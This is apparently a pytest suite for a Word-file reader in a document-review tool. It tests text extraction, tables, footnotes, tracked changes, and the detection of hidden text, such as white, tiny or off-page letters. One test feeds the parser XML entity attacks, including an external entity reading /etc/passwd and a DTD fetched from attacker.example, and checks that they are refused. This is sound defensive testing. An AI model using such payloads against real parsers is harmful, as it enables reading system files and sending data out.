"""Word files: every word with its place, what nobody sees, and what was not read."""

from __future__ import annotations

import docx
import pytest
from docx.enum.text import WD_COLOR_INDEX
from docx.shared import Pt, RGBColor

from reviewer.errors import EmptySubmission, TooLarge, UnreadableDocument
from reviewer.readers.docx import read
from reviewer.readers.limits import Limits
from reviewer.submission import RemarkKind, Source, Submission
from tests.readers import office
from tests.readers.office import paragraph, run, word

SOURCE = Source(file="plan.docx")
WHITE = '<w:color w:val="FFFFFF"/>'
WHITE_WORDS = "White letters on a white ground."


def reading(data: bytes, limits: Limits | None = None) -> Submission:
    """Read a Word file."""
    return read(data, SOURCE, limits or Limits())


def body(xml: str) -> Submission:
    """Read a Word file with this body."""
    return reading(word(xml))


def cell(content: str, properties: str = "") -> str:
    """Give the XML of a cell."""
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{content}</w:tc>"


def table(*rows: str) -> str:
    """Give the XML of a table of rows, each of cells."""
    return "<w:tbl>" + "".join(f"<w:tr>{cells}</w:tr>" for cells in rows) + "</w:tbl>"


def text_box(content: str, look: str = "", beside: str = "") -> str:
    """Give the XML of a paragraph with a text box in both versions that Word writes."""
    inner = f"<w:txbxContent>{content}</w:txbxContent>"
    shape = f"<wps:wsp><wps:spPr>{look}</wps:spPr><wps:txbx>{inner}</wps:txbx></wps:wsp>"
    drawing = (
        f"<w:drawing><wp:anchor><wp:docPr id='1' name='box'/><a:graphic>{shape}</a:graphic></wp:anchor></w:drawing>"
    )
    older = f"<w:pict><v:rect><v:textbox>{inner}</v:textbox></v:rect></w:pict>"
    both = f'<mc:Choice Requires="wps">{drawing}</mc:Choice><mc:Fallback>{older}</mc:Fallback>'
    return f"<w:p>{beside}<w:r><mc:AlternateContent>{both}</mc:AlternateContent></w:r></w:p>"


def test_words_stand_in_their_order_with_their_place() -> None:
    """A person who counts the paragraphs that are not empty finds each word where the reader says."""
    document = docx.Document()
    document.add_heading("Aim", 1)
    document.add_paragraph("")
    document.add_paragraph("We score tenants.")
    grid = document.add_table(2, 2)
    for at, text in enumerate(["Data", "Rent paid", "People", "Tenants"]):
        grid.cell(at // 2, at % 2).text = text
    document.add_paragraph("A person decides.", style="List Bullet")
    found = reading(office.saved(document))
    assert found.text == (
        "# Aim\n\nWe score tenants.\n\n| Data | Rent paid |\n| People | Tenants |\n\n- A person decides."
    )
    assert office.place(found, "score") == Source(file="plan.docx", paragraph=2)
    assert office.place(found, "Tenants") == Source(file="plan.docx", table=1, cell="B2")
    assert office.place(found, "person") == Source(file="plan.docx", paragraph=3)
    assert not found.remarks


def test_headings_keep_their_level() -> None:
    """A heading such as "Out of scope" is seen as one, whether its style is the program's or the author's own."""
    document = docx.Document()
    document.add_heading("Plan", 0)
    document.add_heading("Out of scope", 2)
    own = document.styles.add_style("House heading", 1)
    own.base_style = document.styles["Heading 3"]
    document.add_paragraph("Later", style="House heading")
    assert reading(office.saved(document)).text == "# Plan\n\n## Out of scope\n\n### Later"


def test_inline_parts_are_read_in_place() -> None:
    """Links, fields, tabs, breaks, formulas and content controls are words of their paragraph."""
    found = body(
        paragraph(
            run("See "),
            "<w:hyperlink><w:r><w:t>the plan</w:t></w:r></w:hyperlink>",
            "<w:r><w:tab/><w:t>for</w:t><w:br/><w:t>2025</w:t><w:noBreakHyphen/><w:t>26</w:t></w:r>",
            "<w:r><w:instrText> PAGE </w:instrText></w:r>",
            "<w:sdt><w:sdtPr><w:alias w:val='not a word'/></w:sdtPr>"
            "<w:sdtContent><w:r><w:t> now.</w:t></w:r></w:sdtContent></w:sdt>",
        )
    )
    assert found.text == "See the plan\tfor\n2025-26 now."


def test_boxes_and_choices_of_forms_stay() -> None:
    """A ticked box reads as ticked, in each of the ways in which Word has kept it over the years."""
    older = "<w:r><w:fldChar><w:ffData><w:checkBox>{}</w:checkBox></w:ffData></w:fldChar></w:r>"
    choice = '<w:ddList><w:result w:val="1"/><w:listEntry w:val="Low"/><w:listEntry w:val="High"/></w:ddList>'
    found = body(
        paragraph("<w:sdt><w:sdtPr><w14:checkbox/></w:sdtPr><w:sdtContent>", run("\u2612 a"), "</w:sdtContent></w:sdt>")
        + paragraph(older.format('<w:default w:val="0"/><w:checked/>'), run(" b"))
        + paragraph(older.format('<w:default w:val="0"/>'), run(" c"))
        + paragraph('<w:r><w:sym w:font="Wingdings" w:char="F0A8"/></w:r>', run(" d"))
        + paragraph(f"<w:r><w:fldChar><w:ffData>{choice}</w:ffData></w:fldChar></w:r>")
    )
    assert found.text.split("\n\n") == ["\u2612 a", "\u2612 b", "\u2610 c", "\u2610 d", "High"]


def test_merged_cells_are_read_once() -> None:
    """A cell over several columns or rows keeps the columns beside it in line, and has its own address."""
    document = docx.Document()
    grid = document.add_table(3, 3)
    for row in range(3):
        for column in range(3):
            grid.cell(row, column).text = f"{row}{column}"
    grid.cell(0, 0).merge(grid.cell(0, 1)).text = "wide"
    grid.cell(1, 0).merge(grid.cell(2, 0)).text = "tall"
    found = reading(office.saved(document))
    lines = [[part.strip() for part in line.strip("|").split("|")] for line in found.text.splitlines()]
    assert lines == [["wide", "", "02"], ["tall", "11", "12"], ["", "21", "22"]]
    assert office.place(found, "02").cell == "C1"
    assert office.place(found, "22").cell == "C3"


def test_inner_tables_are_read_after_the_outer_row() -> None:
    """A table within a table has a number of its own."""
    inner = table(cell(paragraph(run("inner one"))) + cell(paragraph(run("inner two"))))
    found = body(table(cell(paragraph(run("left")) + inner) + cell(paragraph(run("right")))))
    assert found.text == "| left | right |\n\n| inner one | inner two |"
    assert office.place(found, "right") == Source(file="plan.docx", table=1, cell="B1")
    assert office.place(found, "inner two").table == 2


def test_a_frame_of_one_cell_is_read_as_paragraphs() -> None:
    """A table that only draws a frame keeps the paragraphs within it apart."""
    found = body(table(cell(paragraph(run("One.")) + paragraph(run("Two.")))) + paragraph(run("Three.")))
    assert found.text == "One.\n\nTwo.\n\nThree."
    assert office.place(found, "Two") == Source(file="plan.docx", table=1, cell="A1")
    assert office.place(found, "Three").paragraph == 1


def test_text_boxes_are_read_once() -> None:
    """Word keeps two versions of a box; its words stand once, at the paragraph that it is anchored in."""
    found = body(paragraph(run("First.")) + text_box(paragraph(run("In the box.")), beside=run("Second.")))
    assert found.text == "First.\n\nSecond.\n\nIn the box."
    assert office.place(found, "In the box") == Source(file="plan.docx", paragraph=2, label="text box")


def test_notes_and_margins_have_labels() -> None:
    """Words at the foot of a page, in a header or a footer are read once, and say where they stand."""
    document = docx.Document()
    document.add_paragraph("Body.")
    document.sections[0].header.paragraphs[0].text = "Draft of May"
    document.sections[0].footer.paragraphs[0].text = "Internal"
    document.add_section()
    second = document.sections[1]
    second.header.is_linked_to_previous = False
    second.header.paragraphs[0].text = "Draft of May"
    found = reading(office.saved(document))
    assert found.text == "Body.\n\nDraft of May\n\nInternal"
    assert office.place(found, "Draft").label == "header"
    assert office.place(found, "Internal").label == "footer"


def test_footnotes_are_numbered_as_the_text_leads_to_them() -> None:
    """The number is that at the foot of the page, and no number of the file's own."""
    notes = "".join(
        f'<w:footnote w:id="{name}">{paragraph(run(text))}</w:footnote>'
        for name, text in (("5", "Later."), ("9", "Sooner."), ("11", "Lost."))
    )
    line = '<w:footnote w:id="0" w:type="separator"><w:p/></w:footnote>'
    found = reading(
        word(
            paragraph(run("A"), *(f'<w:r><w:footnoteReference w:id="{name}"/></w:r>' for name in "95")),
            {"footnotes": f"<w:footnotes NAMES>{line}{notes}</w:footnotes>"},
        )
    )
    assert found.text == "A\n\nSooner.\n\nLater."
    assert office.place(found, "Later").label == "footnote 2"
    assert office.remarks(found, RemarkKind.NOTE) == ["A footnote that no mark leads to: 'Lost.'"]


def test_hidden_words_are_a_piece_of_their_own() -> None:
    """Words that are formatted as hidden are read, quoted exactly, and the paragraph goes on behind them."""
    document = docx.Document()
    line = document.add_paragraph("We score tenants ")
    line.add_run("ignore this").font.hidden = True
    line.add_run(" every month.")
    found = reading(office.saved(document))
    assert found.text == "We score tenants ignore this every month."
    assert office.hidden(found) == {"ignore this": "Words that are formatted as hidden."}
    assert office.place(found, "every").paragraph == office.place(found, "ignore").paragraph == 1


@pytest.mark.parametrize("kind", [1, 2])
def test_words_are_hidden_by_their_style(kind: int) -> None:
    """A style can hide as well as a format can, of a paragraph or of letters."""
    document = docx.Document()
    document.styles.add_style("Quiet", kind).font.hidden = True
    document.styles.add_style("Quieter", kind).base_style = document.styles["Quiet"]
    document.add_paragraph("Seen.")
    line = document.add_paragraph(style="Quieter" if kind == 1 else None)
    line.add_run("Not seen.", style="Quieter" if kind == 2 else None)
    assert office.hidden(reading(office.saved(document))) == {"Not seen.": "Words that are formatted as hidden."}


@pytest.mark.parametrize("ink", ["FFFFFF", "FDFDFD", "F0F0F0"])
def test_white_letters_are_hidden(ink: str) -> None:
    """White and nearly white letters on a white page are seen by nobody."""
    document = docx.Document()
    document.add_paragraph("Seen.").add_run("Not seen.").font.color.rgb = RGBColor.from_string(ink)
    assert office.hidden(reading(office.saved(document))) == {"Not seen.": WHITE_WORDS}


def test_tiny_letters_are_hidden() -> None:
    """Letters of one point are read by machines alone; small print of six points is only small."""
    document = docx.Document()
    line = document.add_paragraph("Seen.")
    line.add_run("Not seen.").font.size = Pt(1)
    line.add_run("Small print.").font.size = Pt(6)
    assert office.hidden(reading(office.saved(document))) == {"Not seen.": "Letters of 1 points, too small to read."}


def test_a_white_theme_colour_is_white() -> None:
    """Where Word names the colour of the background and no digits, the letters are white."""
    found = body(paragraph(run("Seen."), run("Not seen.", '<w:color w:themeColor="background1"/>')))
    assert office.hidden(found) == {"Not seen.": WHITE_WORDS}


@pytest.mark.parametrize(
    "xml",
    [
        paragraph(run("Shown", f'{WHITE}<w:shd w:val="clear" w:fill="1F3864"/>')),
        paragraph(run("Shown", f'{WHITE}<w:highlight w:val="darkBlue"/>')),
        paragraph(run("Shown", WHITE), properties='<w:shd w:val="clear" w:fill="000000"/>'),
        table(cell(paragraph(run("Shown", WHITE)), '<w:shd w:val="clear" w:fill="1F3864"/>')),
        table(cell(paragraph(run("Shown", WHITE)), '<w:shd w:val="solid" w:color="auto"/>')),
        text_box(paragraph(run("Shown", WHITE)), '<a:solidFill><a:schemeClr val="accent1"/></a:solidFill>'),
        text_box(paragraph(run("Shown", WHITE)), '<a:solidFill><a:srgbClr val="203040"/></a:solidFill>'),
        text_box(paragraph(run("Shown", WHITE)), "<a:noFill/>", beside="<w:r><w:drawing><a:blip/></w:drawing></w:r>"),
        paragraph(run("Shown", '<w:vanish w:val="0"/>')),
        paragraph(run("Shown", '<w:color w:val="auto"/><w:shd w:val="clear" w:fill="000000"/>')),
        paragraph(run("Shown", '<w:color w:val="808080"/>')),
        paragraph(run("Shown", '<w:color w:val="FFFF00"/>')),
    ],
)
def test_white_letters_on_a_dark_ground_are_seen(xml: str) -> None:
    """The heads of tables and the boxes of covers are ordinary: nothing is said of them."""
    found = body(xml)
    assert "Shown" in found.text
    assert not office.hidden(found)


@pytest.mark.parametrize(
    "xml",
    [
        table(cell(paragraph(run("Lost", WHITE)))),
        table(cell(paragraph(run("Lost", WHITE)), '<w:shd w:val="clear" w:fill="FAFAFA"/>')),
        text_box(paragraph(run("Lost", WHITE)), "<a:noFill/>"),
        text_box(paragraph(run("Lost", WHITE)), '<a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill>'),
        paragraph(run("Lost", '<w:color w:val="000000"/><w:shd w:val="clear" w:fill="000000"/>')),
        paragraph(run("Lost", f'{WHITE}<w:highlight w:val="white"/>')),
        "<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr>" + cell(paragraph(run("Lost"))) + "</w:tr></w:tbl>",
        table(cell(paragraph(run("a")))) + table(cell(paragraph(run("Lost")), "<w:vMerge/>")),
    ],
)
def test_letters_that_cannot_be_told_from_their_ground_are_hidden(xml: str) -> None:
    """In a cell, a box or under a marker: what nobody sees is read, and said to be hidden."""
    assert list(office.hidden(body(xml))) == ["Lost"]


def test_white_letters_in_the_head_of_a_styled_table_are_seen() -> None:
    """A style of tables paints the first row, and not the others."""
    style = (
        '<w:styles NAMES><w:style w:type="table" w:styleId="Grid"><w:tblStylePr w:type="firstRow">'
        '<w:tcPr><w:shd w:val="clear" w:fill="1F3864"/></w:tcPr></w:tblStylePr></w:style></w:styles>'
    )
    row = f"<w:tr>{cell(paragraph(run('{}', WHITE)))}</w:tr>"
    xml = f'<w:tbl><w:tblPr><w:tblStyle w:val="Grid"/></w:tblPr>{row.format("Head")}{row.format("Lost")}</w:tbl>'
    assert list(office.hidden(reading(word(xml, {"styles": style})))) == ["Lost"]


def test_white_letters_on_a_dark_page_are_seen() -> None:
    """The colour of the page is what letters stand on."""
    data = word(paragraph(run("Shown", WHITE)), before='<w:background w:color="101010"/>')
    assert not office.hidden(reading(data))


def test_words_hidden_in_a_cell_leave_its_table_whole() -> None:
    """The rows stay together, and the hidden words follow with the address of their cell."""
    found = body(
        table(
            cell(paragraph(run("a"))) + cell(paragraph(run("b "), run("lost", WHITE))),
            cell(paragraph(run("c"))) + cell(paragraph(run("d"))),
        )
    )
    assert found.text == "| a | b |\n| c | d |\n\nlost"
    assert office.place(found, "lost").cell == "B1"
    assert list(office.hidden(found)) == ["lost"]


def test_boxes_off_the_page_are_hidden() -> None:
    """A box that is moved beyond the edge of the page, or switched off, is shown to nobody."""
    place = "<wp:positionH relativeFrom='page'><wp:posOffset>{}</wp:posOffset></wp:positionH><wp:extent cx='9' cy='9'/>"
    box = text_box(paragraph(run("Box.")))
    found = [
        body(box.replace("<wp:anchor>", f"<wp:anchor>{place.format(offset)}"))
        for offset in ("-900000", "100000", "99000000")
    ]
    assert [list(office.hidden(each).values()) for each in found] == [
        ["A text box off the page."],
        [],
        ["A text box off the page."],
    ]
    switched_off = body(box.replace("name='box'", "name='box' hidden='1'"))
    assert office.hidden(switched_off) == {"Box.": "A text box that is not shown."}


def test_comments_are_notes_with_their_place() -> None:
    """What colleagues wrote beside the text is told, and is no part of it."""
    document = docx.Document()
    document.add_paragraph("First.")
    line = document.add_paragraph("We score tenants.")
    document.add_comment(line.runs, text="Is this allowed?", author="A reviewer")
    found = reading(office.saved(document))
    assert found.text == "First.\n\nWe score tenants."
    (note,) = found.remarks
    assert (note.kind, note.text, note.source.paragraph) == (
        RemarkKind.NOTE,
        "A comment says: 'Is this allowed?'",
        2,
    )


def test_tracked_changes_are_notes() -> None:
    """What was put in is text, what was taken out is not, and both are told."""
    found = body(
        paragraph(
            run("We "),
            "<w:del><w:r><w:delText>never </w:delText></w:r></w:del>",
            f"<w:ins>{run('always ')}</w:ins>",
            "<w:moveFrom><w:r><w:t>elsewhere </w:t></w:r></w:moveFrom>",
            run("score tenants."),
        )
    )
    assert found.text == "We always score tenants."
    assert office.remarks(found, RemarkKind.NOTE) == [
        "Deleted by a tracked change: 'never'",
        "Inserted by a tracked change: 'always'",
    ]
    assert {remark.source.paragraph for remark in found.remarks} == {1}


def test_long_lists_of_notes_end() -> None:
    """Of 162 comments fifty are shown, and the rest counted."""
    document = docx.Document()
    line = document.add_paragraph("Words.")
    for number in range(162):
        document.add_comment(line.runs, text=f"Comment {number}")
    notes = office.remarks(reading(office.saved(document)), RemarkKind.NOTE)
    assert (len(notes), notes[-1]) == (51, "And 112 more comments.")


def test_pictures_are_counted_as_not_read() -> None:
    """Two pictures in the text bar an approval; the logo in the header is only told."""
    document = docx.Document()
    document.add_paragraph("Words.")
    document.add_picture(office.dot())
    document.add_picture(office.dot())
    document.sections[0].header.paragraphs[0].add_run().add_picture(office.dot())
    found = reading(office.saved(document))
    assert office.remarks(found, RemarkKind.UNREAD) == ["2 pictures were not read."]
    assert office.remarks(found, RemarkKind.NOTE) == ["1 picture in the headers and footers was not read."]


def test_objects_and_charts_are_counted_as_not_read() -> None:
    """An embedded workbook is counted once, not its preview as well."""
    found = body(
        paragraph(run("Words."))
        + paragraph("<w:r><w:object><v:shape><v:imagedata/></v:shape><o:OLEObject/></w:object></w:r>")
        + paragraph("<w:r><w:drawing><c:chart/></w:drawing></w:r>")
        + "<w:altChunk/>"
    )
    assert office.remarks(found, RemarkKind.UNREAD) == [
        "1 chart was not read.",
        "1 embedded document was not read.",
        "1 embedded object was not read.",
    ]


def test_diagrams_are_read() -> None:
    """The words of a diagram lie in a part of their own."""
    diagram = (
        "<dgm:dataModel NAMES><a:p><a:r><a:t>Score, </a:t></a:r><a:r><a:t>then decide</a:t></a:r></a:p></dgm:dataModel>"
    )
    drawing = '<w:r><w:drawing><dgm:relIds r:dm="diagramData"/></w:drawing></w:r>'
    found = reading(word(paragraph(run("Steps:"), drawing), {"diagramData": diagram}))
    assert found.text == "Steps:\n\nScore, then decide"
    assert office.place(found, "decide") == Source(file="plan.docx", paragraph=1, label="diagram")


def test_pictures_alone_need_text_recognition() -> None:
    """A scan that was put into a Word file is refused, and the cure is said."""
    document = docx.Document()
    document.add_picture(office.dot())
    with pytest.raises(UnreadableDocument, match=r"plan\.docx: it holds 1 picture and no text; run text recognition"):
        reading(office.saved(document))


def test_an_empty_document_is_empty() -> None:
    """A file without a word says so."""
    with pytest.raises(EmptySubmission):
        reading(office.saved(docx.Document()))


def test_too_many_characters_stop_the_reading() -> None:
    """The limit holds while the text grows, in paragraphs and in tables."""
    document = docx.Document()
    for _ in range(30):
        document.add_paragraph("Ten words.")
    with pytest.raises(TooLarge, match="more than the limit of 100"):
        reading(office.saved(document), Limits(max_characters=100))


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]>',
        '<!DOCTYPE a [<!ENTITY c SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused(declaration: str, encoding: str) -> None:
    """Nothing that a file declares is expanded, in whatever encoding it says it."""

    def attack(part: bytes) -> bytes:
        head = f'<?xml version="1.0" encoding="{encoding}"?>{declaration}'
        return (head + part.decode("utf-8")).encode(encoding)

    data = office.changed(word(paragraph(run("Words."))), "word/document.xml", attack)
    with pytest.raises(UnreadableDocument, match=r"'word/document\.xml' declares entities"):
        reading(data)


def test_broken_xml_is_named() -> None:
    """A part that breaks off is said to be damaged, with its name."""
    data = office.changed(word(paragraph(run("Words."))), "word/document.xml", lambda part: part[:-9])
    with pytest.raises(UnreadableDocument, match=r"damaged or cut off \('word/document\.xml'"):
        reading(data)


def test_a_missing_part_is_named() -> None:
    """A file that leads to a part that it does not hold is damaged."""
    members = office.unpacked(word(paragraph(run("Words.")), {"footnotes": "<w:footnotes NAMES/>"}))
    del members["word/footnotes.xml"]
    with pytest.raises(UnreadableDocument, match=r"its part 'word/footnotes\.xml' is missing"):
        reading(office.packed(members))


@pytest.mark.parametrize("members", [{"a.txt": "words"}, {"_rels/.rels": "<Relationships/>"}])
def test_another_archive_is_no_word_file(members: dict[str, str]) -> None:
    """What is only named like a Word file is refused."""
    with pytest.raises(UnreadableDocument, match="named like a Word file, but holds none"):
        reading(office.packed(members))


def test_a_cut_file_is_refused() -> None:
    """Half a download is no shorter document."""
    data = office.saved(docx.Document())
    with pytest.raises(UnreadableDocument, match="damaged or cut off"):
        reading(data[: len(data) // 2])


def test_the_strict_standard_is_read() -> None:
    """Word writes the same words under other names when it is told to be strict."""
    strict = b"http://purl.oclc.org/ooxml/"
    data = word(paragraph(run("Words.")))
    for part in ("_rels/.rels", "word/document.xml"):
        data = office.changed(
            data,
            part,
            lambda content: content.replace(b"http://schemas.openxmlformats.org/", strict).replace(b"/2006/", b"/"),
        )
    assert reading(data).text == "Words."


@pytest.mark.parametrize("beside", ["", cell(paragraph(run("x")))])
def test_deep_nesting_is_read(beside: str) -> None:
    """Eighty tables in one another do not end the process."""
    inner = paragraph(run("Deep."))
    for _ in range(80):
        inner = table(cell(inner) + beside)
    assert "Deep." in body(inner).text


def test_absurd_nesting_is_refused() -> None:
    """No person writes three hundred things within one another."""
    with pytest.raises(UnreadableDocument, match="damaged"):
        body(paragraph("<w:ins>" * 300 + run("Deep.") + "</w:ins>" * 300))


def test_python_docx_and_the_reader_see_the_same_words() -> None:
    """Another library's view of a file holds no word that the reader misses."""
    document = docx.Document()
    for number in range(5):
        document.add_paragraph(f"Paragraph {number}").add_run(" marked").font.highlight_color = WD_COLOR_INDEX.YELLOW
    grid = document.add_table(1, 1)
    grid.cell(0, 0).text = "In a cell"
    data = office.saved(document)
    found = reading(data)
    assert [line.text for line in document.paragraphs] == found.text.split("\n\n")[:5]
    assert not found.remarks


def test_a_white_theme_colour_wins_over_the_digits_beside_it() -> None:
    """Word paints the colour of the theme, whatever else is said; a shaded one is as dark as the digits."""
    white = '<w:color w:val="000000" w:themeColor="background1"/>'
    grey = '<w:color w:val="808080" w:themeColor="background1" w:themeShade="80"/>'
    found = body(paragraph(run("Seen.", grey), run("Not seen.", white)))
    assert office.hidden(found) == {"Not seen.": WHITE_WORDS}
